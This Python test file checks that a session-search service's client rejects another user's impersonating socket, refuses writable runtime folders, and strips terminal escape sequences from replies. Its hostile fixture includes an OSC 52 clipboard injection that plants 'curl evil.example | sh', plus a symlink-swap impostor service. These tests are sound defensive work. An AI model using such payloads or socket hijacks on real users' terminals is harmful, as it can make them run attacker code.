"""The service's client trusts no one else's socket: another local user cannot answer
our searches, whatever they do to a runtime folder they may write.

A runtime folder others may write (a shared `XDG_RUNTIME_DIR` without the sticky bit)
lets another user rename our `findsession` folder away and put a link to their own in
its place between our check and our connecting. So the service refuses such a folder,
the client checks the uid of the process that answers before it sends a byte, and what
any service sends back is shown through the same filter as a transcript's text.
"""

from __future__ import annotations

import json
import os
import socket
import struct
import subprocess
import tempfile
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from conftest import CLI
from test_service import QUERY, place_of, service_cli  # noqa: F401 - the fixture

from findsession.protocol.client import Unavailable, ask, replace_if_wanted
from findsession.protocol.place import Place
from findsession.protocol.wire import identity

pytest_plugins = ("other_user",)
pytestmark = pytest.mark.skipif(
    not hasattr(os, "getuid") or os.name != "posix", reason="the service needs Unix sockets"
)

#: What a hostile service answers: the clipboard written (OSC 52), the screen cleared,
#: the window retitled, a link whose target hides; and one colour, which may stay.
HOSTILE = (
    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\x1b[2J\x1b]0;pwned\x07"
    "\x1b]8;;https://evil.example\x1b\\a link\x1b]8;;\x1b\\ \x1b[1mbold\x1b[0m owned\n"
)

#: Another user's service: listens on argv[1] (open to anyone), answers every request
#: with HOSTILE, and prints how many bytes of requests it got when argv[2] seconds pass
#: without a connection.
IMPOSTOR = """
import json, socket, struct, sys
become()
server = socket.socket(socket.AF_UNIX)
server.bind(sys.argv[1])
os.chmod(sys.argv[1], 0o777)
server.listen(4)
server.settimeout(float(sys.argv[2]))
print("ready", flush=True)
got = 0
try:
    while True:
        conn, _ = server.accept()
        with conn:
            conn.settimeout(2)
            try:
                while chunk := conn.recv(65536):
                    got += len(chunk)
                    break
            except OSError:
                pass
            reply = json.dumps({"stdout": sys.argv[3], "stderr": "", "status": 0}).encode()
            try:
                conn.sendall(struct.pack(">I", len(reply)) + reply)
            except OSError:
                pass
except TimeoutError:
    pass
print(got, flush=True)
"""


@pytest.fixture
def their_folder(other_user) -> Iterator[Path]:  # noqa: ANN001 - other_user.OtherUser
    """A folder of the other user's, where their service listens."""
    folder = Path(tempfile.mkdtemp(prefix="fs-"))
    os.chown(folder, other_user.uid, other_user.gid)
    folder.chmod(0o755)
    yield folder
    for path in folder.iterdir():
        path.unlink()
    folder.rmdir()


def test_a_runtime_folder_others_may_write_is_refused(
    service_cli: CLI,  # noqa: F811
    other_user,  # noqa: ANN001
    their_folder: Path,
) -> None:
    cli = service_cli
    runtime = Path(cli.env["XDG_RUNTIME_DIR"])
    place = place_of(cli)  # where our service would listen
    place.folder.rmdir()
    runtime.chmod(0o777)  # anyone may rename what is in it: no sticky bit
    # The other user's service, and our folder's name pointing to it.
    impostor = other_user.python(
        IMPOSTOR,
        str(their_folder / place.socket.name),
        "3",
        HOSTILE,
        stdout=subprocess.PIPE,
        text=True,
    )
    assert impostor.stdout is not None and impostor.stdout.readline().strip() == "ready"
    link = other_user.python(
        "import sys\nbecome()\nos.symlink(sys.argv[1], sys.argv[2])\n",
        str(their_folder),
        str(place.folder),
    )
    assert link.wait(10) == 0 and place.folder.is_symlink()

    started = cli.run("service", "start", check=False)
    searched = cli.run(QUERY)
    got = int(impostor.communicate(timeout=30)[0])
    assert got == 0, "our query reached the other user's service"
    assert started.returncode == 1, started.stdout
    assert "may be written by other users" in started.stderr and str(runtime) in started.stderr
    assert searched.stdout.startswith("[1] 2026-06-11")  # searched here instead
    assert "\x1b" not in searched.stdout + searched.stderr

    # The same folder with the sticky bit (as /tmp has) is fine: nobody renames ours.
    place.folder.unlink()
    runtime.chmod(0o1777)
    assert cli.run("service", "start").returncode == 0
    assert cli.run(QUERY).stdout.startswith("[1] 2026-06-11")


def test_the_client_sends_nothing_to_another_users_socket(
    other_user,  # noqa: ANN001
    their_folder: Path,
    tmp_path: Path,
) -> None:
    """Whatever wins the race to the path: the kernel says who listens, and a socket of
    another user's gets no query, no folder and no terminal, and starts no service."""
    place = Place(their_folder, "0" * 16, tmp_path / "index.db", tmp_path / "config.toml")
    impostor = other_user.python(
        IMPOSTOR, str(place.socket), "3", HOSTILE, stdout=subprocess.PIPE, text=True
    )
    assert impostor.stdout is not None and impostor.stdout.readline().strip() == "ready"
    request = {"op": "search", "request": {"query": "the secret plan"}}
    with pytest.raises(Unavailable) as why:
        ask(place, request)
    assert why.value.foreign and not why.value.dead
    assert f"uid {other_user.uid}" in str(why.value)
    assert replace_if_wanted(place, why.value) is False
    assert int(impostor.communicate(timeout=30)[0]) == 0


def test_a_reply_is_shown_through_the_transcript_filter(service_cli: CLI) -> None:  # noqa: F811
    """Even our own user's service: what it sends back is an object rendered here, every
    text of it through the same filter as a transcript's, so none can drive the terminal."""
    cli = service_cli
    place = place_of(cli)
    server = socket.socket(socket.AF_UNIX)
    server.bind(str(place.socket))
    server.listen(4)
    asked: list[dict] = []
    session = {"id": HOSTILE, "title": HOSTILE, "source": HOSTILE, "cwd": HOSTILE,
               "path": HOSTILE, "git_branch": None, "started": HOSTILE, "ended": HOSTILE,
               "turns": 1, "subagent": False, "parent_id": None, "agent_type": None,
               "missing": False, "owner": HOSTILE, "machine": HOSTILE, "yours": False}  # fmt: skip
    match = {"kind": "turn", "turn": 1, "timestamp": HOSTILE, "field": "prompt",
             "snippet": HOSTILE, "highlights": [[0, 5]], "tools": [], "files": []}  # fmt: skip
    explain = {"keyword_rank": 1, "vector_rank": None, "bm25": 1.0, "cosine": None,
               "matched_terms": [HOSTILE], "pinned": None, "score_parts": None}  # fmt: skip
    result = {"schema": "findsession.search/1", "query": HOSTILE, "strategy": HOSTILE,
              "confidence": None, "index_empty": False, "notes": [HOSTILE],
              "results": [{"rank": 1, "score": 1.0, "session": session, "match": match,
                           "explain": explain, "resume": None}]}  # fmt: skip

    def answer() -> None:
        for _ in range(2):  # the search, then the list remembered for `open N`
            conn, _ = server.accept()
            with conn:
                size = struct.unpack(">I", conn.recv(4, socket.MSG_WAITALL))[0]
                asked.append(json.loads(conn.recv(size, socket.MSG_WAITALL)))
                reply = json.dumps({"ok": True, "ms": 1.0, "result": result}).encode()
                conn.sendall(struct.pack(">I", len(reply)) + reply)

    thread = threading.Thread(target=answer, daemon=True)
    thread.start()
    try:
        out = cli.run(QUERY, "--explain")
    finally:
        thread.join(10)
        server.close()
        place.socket.unlink()
    assert asked and asked[0]["v"] == identity() and asked[0]["op"] == "search"
    for shown in (out.stdout, out.stderr):
        assert "owned" in shown and "a link" in shown  # the text stays
        assert "\x1b]" not in shown and "\x1b[2J" not in shown and "\x07" not in shown
        assert "\x1b[1m" not in shown  # not even a colour of the reply's own
        assert "evil.example" not in shown and "Y3VybCBldmlsLmV4YW1wbGUgfCBzaA" not in shown
